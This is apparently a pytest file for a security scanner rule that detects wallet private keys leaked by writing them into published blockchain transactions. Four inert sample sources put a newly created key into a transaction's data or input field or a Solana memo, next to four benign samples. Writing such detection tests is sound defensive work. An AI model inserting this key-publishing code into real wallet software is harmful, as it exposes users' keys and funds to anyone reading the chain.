"""Rules 35: a wallet's private key put into a transaction that the chain publishes.

A transaction is signed with the key; nothing needs the key inside it. One that carries the
key in its data, or a memo that does, hands it to every reader of the chain, and first to
whoever wrote the code (the `set-utils` campaign of 2025 sent new wallets' keys that way).
The rule holds it wherever the code sits, as `secret-exfil` does for a signing secret sent
in a request's body.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.scan import judge_in_function

PUBLISHED = {
    "data-field": (
        "from web3 import Web3\n"
        "from eth_account import Account\n"
        "w3 = Web3(Web3.HTTPProvider('https://polygon-rpc.example.net'))\n"
        "def connect():\n"
        "    acct = Account.create()\n"
        "    tx = {'to': '0x' + '11' * 20, 'value': 0, 'data': acct.key.hex(), 'nonce': 0}\n"
        "    w3.eth.send_raw_transaction(Account.sign_transaction(tx, '0x' + '22' * 32).raw)\n"
        "    return acct\n"
    ),
    "through-a-name": (
        "from eth_account import Account\n"
        "def connect(w3):\n"
        "    wallet = Account.create()\n"
        "    hidden = w3.to_hex(text=wallet.key.hex())\n"
        "    w3.eth.send_transaction({'from': wallet.address, 'input': hidden})\n"
        "    return wallet\n"
    ),
    "memo": (
        "from solders.keypair import Keypair\n"
        "from spl.memo.instructions import MemoParams, create_memo\n"
        "def connect(client, program):\n"
        "    keypair = Keypair()\n"
        "    memo = create_memo(MemoParams(program_id=program, signer=keypair.pubkey(),\n"
        "                                  message=bytes(keypair.secret())))\n"
        "    client.send_transaction(memo)\n"
        "    return keypair\n"
    ),
    "private-key-attribute": (
        "import web3\n"
        "def connect(w3, signer):\n"
        "    w3.eth.send_transaction({'to': signer.address, 'data': signer.private_key})\n"
    ),
}


@pytest.mark.parametrize("client", PUBLISHED.values(), ids=PUBLISHED.keys())
def test_a_wallets_key_in_a_published_field_is_held_wherever_it_sits(client: str) -> None:
    rules, held = judge_in_function(client)
    assert rules.get("secret-exfil") == 10
    assert held


EVERYDAY = {
    "signed-with-the-key": (
        "from web3 import Web3\n"
        "from eth_account import Account\n"
        "def connect(w3, private_key, contract):\n"
        "    acct = Account.from_key(private_key)\n"
        "    tx = {'to': contract.address, 'data': contract.encode_abi('mint', [1]),\n"
        "          'nonce': w3.eth.get_transaction_count(acct.address)}\n"
        "    signed = acct.sign_transaction(tx)\n"
        "    return w3.eth.send_raw_transaction(signed.raw_transaction)\n"
    ),
    "a-cache-key": (
        "import web3\n"
        "def connect(w3, entry):\n"
        "    return w3.provider.make_request('eth_call', [{'data': entry.key}])\n"
    ),
    "a-commit-secret": (
        "from web3 import Web3\n"
        "def connect(w3, registrar, name, owner, secret):\n"
        "    commitment = registrar.functions.makeCommitment(name, owner, secret).call()\n"
        "    data = registrar.encode_abi('commit', [commitment])\n"
        "    return w3.eth.send_transaction({'to': registrar.address, 'data': data,\n"
        "                                    'memo': secret})\n"
    ),
    "a-memo-of-text": (
        "from spl.memo.instructions import MemoParams, create_memo\n"
        "def connect(program, keypair):\n"
        "    return create_memo(MemoParams(program_id=program, signer=keypair.pubkey(),\n"
        "                                  message=b'order 42'))\n"
    ),
}


@pytest.mark.parametrize("client", EVERYDAY.values(), ids=EVERYDAY.keys())
def test_a_transaction_signed_with_a_key_or_carrying_other_data_is_not(client: str) -> None:
    rules, held = judge_in_function(client)
    assert "secret-exfil" not in rules
    assert not held
